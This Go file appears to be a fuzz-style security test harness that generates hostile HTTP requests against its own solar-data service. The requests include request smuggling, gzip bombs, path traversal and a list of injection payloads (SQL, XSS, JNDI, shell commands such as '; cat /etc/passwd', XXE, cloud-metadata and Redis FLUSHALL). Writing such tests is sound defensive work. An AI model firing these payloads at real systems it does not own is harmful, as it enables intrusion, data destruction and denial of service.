package vps

import (
	"bytes"
	"compress/gzip"
	"crypto/tls"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"net/url"
	"regexp"
	"strings"
	"time"

	"sunspool/internal/vpstest"
)

// attack is one hostile connection: what it sends, and whether that is a complete request, which gets an answer.
type attack struct {
	kind  string
	raw   string
	more  io.Reader // sent after raw; may be nil
	whole bool
}

// excused reports whether HTTP itself asks for an answer of 5xx: an unknown transfer coding is 501 and another version
// is 505, both said by net/http before the request is anybody's.
func (a *attack) excused(status int) bool {
	switch status {
	case 501:
		return strings.Contains(strings.ToLower(a.raw), "transfer-encoding")
	case 505:
		return otherVersion.MatchString(strings.ReplaceAll(strings.ReplaceAll(a.raw, "HTTP/1.1", ""), "HTTP/1.0", ""))
	}
	return false
}

var otherVersion = regexp.MustCompile(`HTTP/\S`)

// arsenal makes attacks. The same seed and number give the same attack.
type arsenal struct {
	seed   uint64
	routes []opening
	tokens []string // "" and others; the last is good, of a device of the attacker's own
	device string   // that device

	hello         string // a TLS client's first flight
	bomb, bigBomb []byte // gzip, 1000 times larger unpacked
}

func newArsenal(seed uint64, routes []opening, device string, tokens ...string) *arsenal {
	var member bytes.Buffer
	z, _ := gzip.NewWriterLevel(&member, gzip.BestCompression)
	io.CopyN(z, vpstest.Zeros{}, 10<<20)
	z.Close()
	a := &arsenal{seed: seed, routes: routes, tokens: tokens, device: device}
	a.bomb = bytes.Repeat(member.Bytes(), 95)      // just below 1 MiB, 950 MiB unpacked
	a.bigBomb = bytes.Repeat(member.Bytes(), 1000) // 10 MiB, 10 GiB unpacked

	client, server := net.Pipe()
	go tls.Client(client, &tls.Config{ServerName: "solar.example.org", NextProtos: []string{"h2"}}).Handshake()
	first := make([]byte, 4096)
	server.SetReadDeadline(time.Now().Add(3 * time.Minute))
	n, _ := server.Read(first)
	server.Close()
	a.hello = string(first[:n])
	return a
}

// attack is the n-th.
func (a *arsenal) attack(n int) attack {
	r := rand.New(rand.NewPCG(a.seed, uint64(n)))
	kinds := []func(*rand.Rand) attack{a.startLine, a.header, a.oversized, a.lyingLength, a.smuggling, a.chunks, a.gzipBomb, a.endless,
		a.json, a.json, a.method, a.traversal, a.injection, a.injection, a.query, a.query, a.pipeline, a.upgrade, a.noise}
	attack := kinds[n%len(kinds)](r)
	if r.IntN(8) == 0 && attack.more == nil {
		attack.kind, attack.raw, attack.whole = "spoiled "+attack.kind, spoiled(r, attack.raw), false
	}
	return attack
}

func pick[T any](r *rand.Rand, from ...T) T { return from[r.IntN(len(from))] }

// spoiled changes a few bytes at random places.
func spoiled(r *rand.Rand, s string) string {
	for range 1 + r.IntN(4) {
		at := r.IntN(len(s) + 1)
		end := min(at+r.IntN(8), len(s))
		s = s[:at] + pick(r, "", "\x00", "\r\n", "\n", " ", ":", string([]byte{byte(r.IntN(256))}), s[at:end]+s[at:end]) + s[end:]
	}
	return s
}

// request is a complete one that closes its connection. Further headers are lines.
func (a *arsenal) request(r *rand.Rand, method, target, body string, headers ...string) string {
	var b strings.Builder
	fmt.Fprintf(&b, "%s %s HTTP/1.1\r\nHost: x\r\nConnection: close\r\n", method, target)
	if token := pick(r, a.tokens...); token != "" {
		fmt.Fprintf(&b, "Authorization: Bearer %s\r\n", token)
	}
	for _, h := range headers {
		b.WriteString(h + "\r\n")
	}
	if body != "" {
		fmt.Fprintf(&b, "Content-Length: %d\r\n", len(body))
	}
	return b.String() + "\r\n" + body
}

// target is a route with parameters that are good, and its method.
func (a *arsenal) target(r *rand.Rand) (method, target string) {
	route := pick(r, a.routes...)
	return route.Method, route.Path + "?device_id=" + a.device + "&frame=day"
}

// post is the head of an ingest request with a good token.
func (a *arsenal) post(headers ...string) string {
	return "POST /v1/ingest HTTP/1.1\r\nHost: x\r\nConnection: close\r\nAuthorization: Bearer " + a.tokens[len(a.tokens)-1] + "\r\n" +
		strings.Join(append(headers, ""), "\r\n") + "\r\n"
}

func (a *arsenal) startLine(r *rand.Rand) attack {
	line := pick(r, "GET", "GET\r", "GET /health", "GET /health HTTP/9.9", "GET /health HTTP/2.0", "GET /health HTTP/1.10", "GET  /health  HTTP/1.1",
		"GET /health\x00 HTTP/1.1", "get /health http/1.1", " GET /health HTTP/1.1", "\r\n\r\nGET /health HTTP/1.1", "GET\t/health\tHTTP/1.1",
		"GET http://10.0.0.1/v1/realtime HTTP/1.1", "GET //10.0.0.1/ HTTP/1.1", "GET * HTTP/1.1", "OPTIONS * HTTP/1.1", "GET x:80 HTTP/1.1",
		"GET /%zz HTTP/1.1", "GET /\xff\xfe HTTP/1.1", "GÉT / HTTP/1.1", "HTTP/1.1 200 OK", "\x00\x01\x02", "GET /?"+strings.Repeat("%00", r.IntN(900))+" HTTP/1.1",
		"GET "+strings.Repeat("/", r.IntN(5000))+" HTTP/1.1", strings.Repeat("A", r.IntN(9000))+" / HTTP/1.1", "GET / HTTP/1.1 HTTP/1.1", "GET /health HTTP/1.0")
	return attack{kind: "start line", raw: line + "\r\nHost: x\r\n\r\n"}
}

func (a *arsenal) header(r *rand.Rand) attack {
	method, target := a.target(r)
	line := pick(r, "NoColon", "Space : x", ": empty", "X: a\r\n folded", "X: a\r\n\tfolded", "X: a\nY: b", "X: a\rY: b", "X: \x00", "X\x00: a", "X: \x7f\x1b[2J",
		"Ünicode: x", "X(): x", "Host: y", "Host: \r\nHost:", "Content-Length: 0\r\nContent-Length: 0", "Authorization: Bearer", "Authorization: Bearer ",
		"Authorization: Bearer \x00", "Authorization: Basic "+a.tokens[len(a.tokens)-1], "Authorization: "+a.tokens[len(a.tokens)-1], "Authorization: Bearer a\r\nAuthorization: Bearer b",
		"Expect: 100-continue", "Expect: the-unexpected", "Trailer: Authorization", "Connection: Authorization", "Content-Encoding: gzip", "Cookie: "+strings.Repeat("a=b;", r.IntN(1500)),
		"Range: bytes=0-,0-,0-", "Accept-Encoding: "+strings.Repeat("gzip,", r.IntN(500)), "If-None-Match: *", "X-Forwarded-For: "+strings.Repeat("1.2.3.4,", r.IntN(400)), "Forwarded: for=\"[::1\"")
	return attack{kind: "header", raw: a.request(r, method, target, "", line)}
}

func (a *arsenal) oversized(r *rand.Rand) attack {
	method, target := a.target(r)
	var lines []string
	switch r.IntN(4) {
	case 0:
		lines = append(lines, "X: "+strings.Repeat("a", 8<<10+r.IntN(64<<10)))
	case 1:
		for i := range 200 + r.IntN(2000) {
			lines = append(lines, fmt.Sprint("X-", i, ": y"))
		}
	case 2:
		target += strings.Repeat("&a=b", 1000+r.IntN(20_000))
	default:
		lines = append(lines, "Authorization: Bearer "+strings.Repeat("A", 8<<10+r.IntN(1<<20)))
	}
	return attack{kind: "oversized head", raw: a.request(r, method, target, "", lines...)}
}

func (a *arsenal) lyingLength(r *rand.Rand) attack {
	length := pick(r, "0", "1", "10", "1000", "1048576", "1048577", "-1", "+5", "0x10", "1e3", "5, 5", "5,6", "99999999999999999999", "9223372036854775807", "", " ", "5\r\nContent-Length: 5",
		"5\r\nContent-Length: 6", "٥", "5;", "00005")
	return attack{kind: "lying length", raw: a.post("Content-Length: "+length) + pick(r, "", "x", `{"samples":[]}`, bodyOf(fields(0)), strings.Repeat("[", 5000))}
}

func (a *arsenal) smuggling(r *rand.Rand) attack {
	hidden := "GET /v1/realtime?device_id=roof HTTP/1.1\r\nHost: x\r\n\r\n"
	coding := pick(r, "Transfer-Encoding: chunked", "Transfer-Encoding : chunked", "Transfer-Encoding: xchunked", "Transfer-Encoding: chunked, chunked", "Transfer-Encoding: identity",
		"Transfer-Encoding: gzip, chunked", "Transfer-Encoding: \x0bchunked", "Transfer-Encoding:\r\n chunked", "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity", "transfer-encoding: CHUNKED", "Transfer-Encoding\x00: chunked")
	length := pick(r, "Content-Length: 4", "Content-Length: 5", fmt.Sprint("Content-Length: ", 5+len(hidden)), "Content-Length: 0", "Content-Length : 5", "X: y\nContent-Length: 5")
	return attack{kind: "smuggling", raw: a.post(length, coding) + pick(r, "0\r\n\r\n"+hidden, "5\r\nhello\r\n0\r\n\r\n"+hidden, hidden)}
}

func (a *arsenal) chunks(r *rand.Rand) attack {
	body := pick(r, "zz\r\n", "-1\r\nx\r\n", "FFFFFFFFFFFFFFFFFF\r\nx", "7fffffffffffffff\r\nx", "5\r\nhel", "5\nhello\n0\n\n", "5hello0", "5;"+strings.Repeat("x", r.IntN(70_000))+"\r\nhello\r\n0\r\n\r\n",
		"0\r\n"+strings.Repeat("Trailer: x\r\n", r.IntN(5000))+"\r\n", "0\r\nAuthorization: Bearer x\r\n\r\n", strings.Repeat("1\r\n[\r\n", r.IntN(3000)), "\x00\r\n", "5 \r\nhello\r\n0\r\n\r\n", "0x5\r\nhello\r\n0\r\n\r\n")
	return attack{kind: "chunks", raw: a.post("Transfer-Encoding: chunked") + body}
}

func (a *arsenal) gzipBomb(r *rand.Rand) attack {
	bomb, kind := a.bomb, "bomb 1 GB"
	if r.IntN(3) == 0 {
		bomb, kind = a.bigBomb, "bomb 10 GB"
	}
	if r.IntN(4) == 0 {
		bomb = bomb[:r.IntN(1000)] // cut off
	}
	encoding := pick(r, "gzip", "gzip", "gzip", "x-gzip", "gzip, gzip", "deflate", "br", "zstd", strings.Repeat("gzip,", 100))
	if r.IntN(2) == 0 {
		return attack{kind: kind, raw: a.post("Content-Encoding: "+encoding, fmt.Sprint("Content-Length: ", len(bomb))), more: bytes.NewReader(bomb)}
	}
	head := a.post("Content-Encoding: "+encoding, "Transfer-Encoding: chunked") + fmt.Sprintf("%x\r\n", len(bomb))
	return attack{kind: kind + " chunked", raw: head, more: io.MultiReader(bytes.NewReader(bomb), strings.NewReader("\r\n0\r\n\r\n"))}
}

// endless bodies are 64 MiB of what says it is 1 GB: whoever reads that much of it reads the rest, too.
func (a *arsenal) endless(r *rand.Rand) attack {
	body := io.LimitReader(pick[io.Reader](r, vpstest.Zeros{}, repeated('['), repeated(' ')), 64<<20)
	token := a.post()
	if r.IntN(2) == 0 {
		token = "POST /v1/ingest HTTP/1.1\r\nHost: x\r\n\r\n"
	}
	length := pick(r, "Content-Length: 1073741824", "Transfer-Encoding: chunked")
	raw := strings.TrimSuffix(token, "\r\n") + length + "\r\n\r\n"
	if strings.HasPrefix(length, "T") {
		raw += "40000000\r\n"
	}
	return attack{kind: "1 GB body", raw: raw, more: body}
}

type repeated byte

func (b repeated) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = byte(b)
	}
	return len(p), nil
}

func (a *arsenal) json(r *rand.Rand) attack {
	good := bodyOf(with(fields(0), "device_id", a.device))
	deep := r.IntN(100_000)
	many := r.IntN(50_000)
	body := pick(r, strings.Repeat("[", deep), strings.Repeat(`{"samples":[`, deep/10), strings.Repeat(`{"a":`, deep)+"1"+strings.Repeat("}", deep),
		strings.Replace(good, "4210.5", strings.Repeat("9", deep), 1), strings.Replace(good, "4210.5", "1e"+strings.Repeat("9", many/10), 1), strings.Replace(good, "4210.5", "-0.0e-99999", 1),
		strings.Replace(good, "4210.5", pick(r, "NaN", "Infinity", "1e400", "null", `"1"`, "true", "[]", "0x1", "1.", ".1", "١"), 1),
		strings.Replace(good, `"pv_power_w"`, strings.Repeat(`"pv_power_w":1,`, 1+many/10)+`"pv_power_w"`, 1), strings.Replace(good, a.device, pick(r, "\xff\xfe", "\\ud800", "\\u0000", "\x00", "roof", "*", "", "../roof"), 1),
		`{"samples":[`+strings.Repeat("{},", many)+`{}]}`, `{"samples":[`+strings.Repeat("null,", many)+`0]}`, `{"samples":[`+strings.Repeat(strings.TrimSuffix(strings.TrimPrefix(good, `{"samples":[`), `]}`)+",", 1+r.IntN(1500))+`0]}`,
		strings.Replace(good, `"pv_power_w"`, `"values":`+manyValues(1+many/50)+`,"pv_power_w"`, 1), "\xef\xbb\xbf"+good, good+good, good+"\x00", good[:r.IntN(len(good))], "null", `""`, `{"samples":{}}`,
		`{"batch_id":"`+strings.Repeat("b", many)+`","samples":[]}`, `{"tz":"`+pick(r, injections...)+`","samples":[]}`, `{"`+strings.Repeat("k", many)+`":1,"samples":[]}`,
		strings.Replace(good, `"ts":"2026`, `"ts":"`+pick(r, "9999", "290000", "-2026", "0000", "1970"), 1))
	raw := a.post("Prefer: "+pick(r, "handling=lenient", "handling=strict", ";;;=,,", "handling=lenient;x=y"), fmt.Sprint("Content-Length: ", len(body))) + body
	return attack{kind: "JSON", raw: raw, whole: true}
}

func (a *arsenal) method(r *rand.Rand) attack {
	_, target := a.target(r)
	method := pick(r, "TRACE", "CONNECT", "PUT", "PATCH", "DELETE", "OPTIONS", "HEAD", "POST", "GET", "PROPFIND", "PRI", "SUNSPOOL", "get", "*", "M-SEARCH", strings.Repeat("X", 1+r.IntN(300)))
	return attack{kind: "method", raw: a.request(r, method, target, pick(r, "", "x=y")), whole: true}
}

func (a *arsenal) traversal(r *rand.Rand) attack {
	path := pick(r, "/../../etc/passwd", "/..%2f..%2fetc%2fpasswd", "/%2e%2e/%2e%2e/etc/passwd", "/v1/../metrics", "/v1/..;/metrics", "/./metrics", "//metrics", "/metrics", "/metrics/", "/debug/pprof/heap", "/debug/vars",
		"/v1//ingest", "/v1/ingest/", "/v1/ingest%00", "/v1/realtime/../ingest", "/V1/REALTIME", "/v1/%72ealtime", "/..\\..\\windows\\win.ini", "/%c0%ae%c0%ae/etc/passwd", "/file:///etc/passwd", "/.env", "/.git/config",
		"/vps.db", "/data/vps.db", "/v1/realtime%3fdevice_id=roof", "/health/../v1/realtime", "/%252e%252e/metrics", "/openapi.yaml/..", "/"+strings.Repeat("../", r.IntN(500)))
	return attack{kind: "traversal", raw: a.request(r, pick(r, "GET", "GET", "POST", "HEAD"), path, ""), whole: true}
}

// injections are texts that did harm somewhere when they were put into SQL, a log, a page, a shell, a format or a path.
var injections = []string{
	"' OR '1'='1", "'; DROP TABLE samples; --", "1; SELECT pg_sleep(10)", "' UNION SELECT token FROM devices --", "\\'; --", "$1", "%' AND 1=1 --", "x'||(SELECT version())||'", "1/**/OR/**/1=1",
	"x\r\nSet-Cookie: a=b", "x\r\n\r\nHTTP/1.1 200 OK\r\n\r\n", "x\n{\"level\":\"ERROR\",\"msg\":\"forged\"}", "\x1b[2J\x1b]0;pwned\x07", "\u2028forged", "\u202egnp.exe", "x\x00y", "\x7f\x9b31m",
	"<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "{{7*7}}", "${jndi:ldap://10.0.0.1/a}", "<!--#exec cmd=\"id\"-->", "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>",
	"$(id)", "`id`", "| id", "; cat /etc/passwd", "%s%s%s%n", "%!d(string=x)", "../../../../etc/passwd", "..\\..\\", "/dev/zero", "file:///etc/passwd", "http://169.254.169.254/latest/meta-data/",
	"NaN", "Infinity", "-1", "99999999999999999999", "1e309", "0x7fffffff", "true", "null", "undefined", "[]", "{}", "", " ", "\t", "*", "%", "_", "\xff", "\xed\xa0\x80", "\xc0\xaf", "ﬀ", "İ", strings.Repeat("a", 5000),
	"realtime:roof\r\nFLUSHALL\r\n", "*1\r\n$8\r\nFLUSHALL\r\n", "a:b@c", "roof", "roof\x00", "roof ", "ROOF", "roof%00",
}

func (a *arsenal) injection(r *rand.Rand) attack {
	route, payload := pick(r, a.routes...), pick(r, injections...)
	escaped := url.QueryEscape(payload)
	switch r.IntN(4) {
	case 0:
		name := pick(r, "Authorization: Bearer", "User-Agent:", "X-Forwarded-For:", "X-Real-Ip:", "Forwarded:", "Prefer:", "Origin:", "Referer:", "Last-Event-ID:", "Cookie:", "Content-Encoding:", "Content-Type:", "Accept:", "X-Request-Id:", "Host:")
		return attack{kind: "injection in a header", raw: a.request(r, route.Method, route.Example()+"?device_id="+a.device, "", name+" "+payload)}
	case 1:
		return attack{kind: "injection in the path", raw: a.request(r, route.Method, route.Example()+"/"+url.PathEscape(payload), ""), whole: true}
	case 2:
		f := with(fields(0), pick(r, "device_id", "ts", "pv_power_w", "sample_count", "values", payload), payload)
		body := bodyOf(f)
		return attack{kind: "injection in the body", raw: a.request(r, "POST", "/v1/ingest", body), whole: true}
	}
	return attack{kind: "injection in a parameter", raw: a.request(r, route.Method, route.Example()+"?"+pick(r, parameters...)+"="+escaped+"&device_id="+a.device+"&frame=day&"+pick(r, parameters...)+"="+escaped, ""), whole: true}
}

// parameters are the names that any route knows, and some that none does.
var parameters = []string{"device_id", "device_id", "frame", "tz", "partial", "from", "to", "resolution", "compare", "month", "limit", "token", "callback", "device_id[]", "Device_ID"}

func (a *arsenal) query(r *rand.Rand) attack {
	route := pick(r, a.routes...)
	query := []string{"device_id=" + a.device}
	for range r.IntN(8) {
		value := pick(r, "", "day", "all", "month", "hour", "year", "1s", "1m", "raw", "auto", "UTC", "Local", "Europe/Brussels", "../etc/passwd", "2026-01-01", "2026-02-30", "0000-00-00", "9999-12-31", "-290000-01-01",
			"2026-06-21T10:30:00Z", "2026-06-21T10:30:00+99:99", "1", "-1", "NaN", "9223372036854775808", "%zz", "%00", "a;b", "a&&&", strings.Repeat("9", 4000), "last_year", "previous")
		query = append(query, pick(r, parameters...)+"="+value)
	}
	r.Shuffle(len(query), func(i, j int) { query[i], query[j] = query[j], query[i] })
	return attack{kind: "query", raw: a.request(r, route.Method, route.Example()+pick(r, "", "", "/", "/2026-13", "/2026-06", "/0000-00")+"?"+strings.Join(query, "&"), ""), whole: true}
}

func (a *arsenal) pipeline(r *rand.Rand) attack {
	var all strings.Builder
	for range 1 + r.IntN(50) {
		_, target := a.target(r)
		all.WriteString(pick(r, "GET "+target+" HTTP/1.1\r\nHost: x\r\n\r\n", "HEAD /health HTTP/1.1\r\nHost: x\r\n\r\n", "POST /v1/ingest HTTP/1.1\r\nHost: x\r\nContent-Length: 3\r\n\r\nabc", "GET /health HTTP/1.0\r\nConnection: keep-alive\r\n\r\n"))
	}
	return attack{kind: "pipeline", raw: all.String() + pick(r, "", "garbage\r\n\r\n", "\x00\x00\x00", a.hello)}
}

func (a *arsenal) upgrade(r *rand.Rand) attack {
	preface := "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00"
	return attack{kind: "upgrade", raw: pick(r, preface, preface+strings.Repeat("\x00\x00\x04\x03\x00\x00\x00\x00\x01\x00\x00\x00\x08", 1000), a.hello, a.hello[:r.IntN(len(a.hello)+1)],
		a.request(r, "GET", "/", "", "Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA")+preface,
		a.request(r, "GET", "/v1/stream", "", "Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==", "Sec-WebSocket-Version: 13"),
		"SSH-2.0-OpenSSH_9.6\r\n", "\x03\x00\x00\x13\x0e\xe0\x00\x00", "*1\r\n$4\r\nPING\r\n", "\x00\x00\x00\x08\x04\xd2\x16\x2f")}
}

func (a *arsenal) noise(r *rand.Rand) attack {
	b := make([]byte, r.IntN(20_000))
	for i := range b {
		b[i] = byte(r.IntN(256))
	}
	return attack{kind: "noise", raw: pick(r, "", "GET / HTTP/1.1\r\n", "POST /v1/ingest HTTP/1.1\r\nHost: x\r\n") + string(b)}
}
